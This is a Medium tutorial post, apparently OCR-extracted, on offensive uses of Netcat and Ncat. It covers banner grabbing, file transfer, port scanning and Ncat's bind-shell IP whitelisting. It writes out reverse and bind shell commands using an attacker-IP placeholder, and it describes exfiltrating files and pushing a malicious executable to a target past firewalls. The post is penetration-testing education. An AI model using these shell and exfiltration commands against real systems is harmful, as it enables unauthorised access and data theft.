Offensive Netcat/Ncat: From Port Scanning To Bind Shell IP Whitelisting

Oct 1 · 7 min read
Netcat — “the swiss army knife of network tools”

Introduction/Table of Contents

I’m sure everyone has used Netcat (nc) before, but we’ve never appreciated its full extent of power and potential. In this post, I’ll take you through the wonderful features of Netcat, including:
- Connecting to servers via TCP or UDP + Banner Grabbing
- Listening as a server
- File transfers
- Remote shells (Bind & Reverse)
- Port scanning with Netcat options and a Bash extension
At the end, we’ll look at one security feature of Ncat, Netcat’s improved cousin.

Connnecting to Servers (TCP/UDP)

Syntax: nc -nv[u] <target-ip> <port>

Differences between open/closed ports, and verbose/non-verbose connections

Connecting to a server is a quite straightforward process. You use the -nv option to disable DNS resolution (-n) and have Netcat print out verbose information (-v).

Looking at the “verbose information”, we can see that Netcat prints the status of the port right before the server banner (open/Connection refused). By looking at this output, we can imagine Netcat being able to determine an open port from a closed port, thereby being able to perform port scanning. This is covered in full depth in thePort Scanning section below.

Also, we can see that once we connected to the service (whether with -v or not), the service returns a banner — SSH-2.0-OpenSSH_7.9p1 Debian-5 — this is an amazing source of information about the service and server itself!
It tells us the specific type and version of SSH that is running and the OS platform of the server. This process of extracting valuable information about the target is aptly named banner grabbing.

Let’s also take a look at connecting to a UDP port, which can be accomplished by tacking on a “u” at the end of the options.

Netcat UDP connection and address resolution

We can see that connecting to a UDP port works very similarly to connecting to a TCP port.

Additionally, in the image, we can see two Netcat commands, one with, and one without the -n option. We can see the effects of the -n option’s DNS resolution restrictions by comparing “(UNKNOWN)” to “localhost”. When DNS resolution is allowed, the numeric IP address is resolved to localhost.

Listening as a Server

Syntax: nc -nvlp <port>

With Netcat, listening on a port is just as simple as running one short command with Netcat’s -l and -p options, to listen on all interfaces on a specific local port. This allows for a quick file transfer setup and a shell listener, as you will see in the following sections. You canoptionally use the -v option to make Netcat display verbose output (“listening on [any] <port> ”) and print a notification when a host connects to it.

Netcat client/server model and 2-way communication

Text input from the server is sent to the client and the client to the server, allowing a simple text exchange to happen. How can we use bidirectional text transfer for a more useful case? One scenario I use this in is when a friend next to me wants to send a long HTTPS link to me, but using email is a fuss and can even take quite a bit of time before it arrives in my inbox. I tell them to open Terminal and connect to my Netcat listener so that they can copy the link and I can receive it. Job done!

File Transfers

Syntax: nc -nvlp <port> < <file> (attacker)
nc -nv <attacker-ip> <port> > <out-file> (target)File transfers in order to exfiltrate data from the target or upload tools to the target can be simply accomplished with Netcat. Utilising commands mentioned in the two sections above, we can create a basic server-client connection and transfer files.

Transferring a malicious .exe file from the attacker to the target

On the right side, the attacker machine has set up a listener and has redirected the malicious.exe file to it. This means that whatever host connects to port 9999 of the attacker machine can download that file.

On the left side, the target machine is connecting to the attacker’s listener, and is redirecting the output to a file named malicious-received.exe.

This setup of the target connecting back to the server allows for firewall evasion, as firewalls usually have less restrictions for outbound connections.

For file exfiltration, simply switch the output redirectors (“<”, “>”).

One issue with file transferring with Netcat is that there is no “progress bar” to check the file’s transfer progress and no way of telling when the transfer has completed. There is minimal issue if the file being transferred is small, as it will only take a fraction of a second, but if the file is big, it may take some time before the transfer completes. If we unknowingly use ^C to stop the connection during the transfer process,the file will not be properly downloaded. The only mitigation is to wait a suitable amount of time before terminating the connection.

Remote Shells (Bind/Reverse)

Syntax: nc -nvlp <port> -e {/bin/bash | cmd.exe}(bind)
nc -nv <attacker-ip> <port> -e {/bin/bash | cmd.exe} (reverse)

This is the most exciting feature of Netcat — gaining remote shells from the target. Remote shells can be classified into two main categories: bind and reverse (a.k.a. connect-back).
Bind shells have the listener running on the target and the attacker connect to the listener in order to gain a remote shell.
Reverse shells have the listener running on the attacker and the target connecting to the attacker with a shell.

Netcat bind shell

On the left side, the Linux target has a listener that allows any host that connects to port 9999 to gain a remote shell. On the rightside, the attacker has connected to the target host, gained a remote shell using /bin/bash, and is able to run commands as if they had local access to the target.

There is a security issue with Netcat bind shells, though, and that is the fact that anyone can connect to the bind shell and run commands. A malicious actor can take advantage of this easily. To our rescue comes Ncat, which has a solution for this issue (covered in the Ncat section below).

Netcat reverse shell

Netcat reverse shells allow the attacker to set up an ordinary Netcat listener (right side), and have the remote target send a reverse shell to us. Just like our bind shell from before, we can run local commands from the attacker.Reverse shells are generally better than bind shells for many reasons, and you can read about that in more detail in my other post.

Port Scanning

Syntax: nc -nv[u] -w 1 -z <target-ip> <port range>

Fancy tools such as Nmap aren’t the only way to scan ports, as we can achieve the same thing with Netcat (although it has lower performance).

Netcat TCP/UDP Port Scanning

Let’s go through each of the parameters in the command:
-nv[u]: restricts DNS resolution, prints verbose output (otherwise we would receive no output at all from the port scan) and optionally specifies UDP
-w 1: sets the timeout of the connection to 1 second, which allows Netcat to quickly skip closed ports that don’t respond in 1 second
-z: specifies a port scan

Netcat Port Sweep Bash Extension

We can fuse Netcat with a simple Bash Script to allow us to feed a file containing a list of IP addresses as input and perform a port scan on each of the listed hosts. We are effectively “sweeping” a host range for certain ports.

Netcat port sweep Bash script

Usage: ./ <targets-file> {TCP | UDP} <port-range>
This simple “extension” to Netcat using Bash allows for a TCP/UDP scan of a list of hosts. And who doesn’t love a touch of Bash?

Ncat — The Solution to Netcat’s Problems

Ncat — “Netcat for the 21st Century”

Nmap has an improved version of Netcat called Ncat, supporting many of the same syntax as Netcat (including ncat -nvlp, ncat -nv etc.), which they claim is the “Netcat for the 21st Century”.Let’s see why this is the case, by exploring one out of a dozen features that Ncat has to offer.

Ncat Bind Shell IP Whitelisting

Earlier on, we discussed that bind shells have a security issue of anyone being able to gain a remote shell. Ncat solves this issue with its “--allow <host(s)> option, which only allows certain hosts to connect to the bind shell.

Allowed bind shell connection
Denied bind shell connection from disallowed host

Sending commands from the attacker will return no output, and then lead to a Broken Pipe error.

This is not the end to Ncat’s security improvements, however, and my other blog post explores one moresecurity feature of Ncat —encryptedshells.

Further Digging

Bind vs Reverse vs Encrypted Shells:
SANS Netcat Cheatsheet:


Written by

Aspiring Next-Generation Penetration Tester

Welcome to a place where words matter. On Medium, smart voices and original ideas take center stage - with no ads in sight. Watch
Follow all the topics you care about, and we’ll deliver the best stories for you to your homepageand inbox. Explore
Get unlimitedaccess to the best storieson Medium — and support writers whileyou’re at it. Just $5/month. Upgrade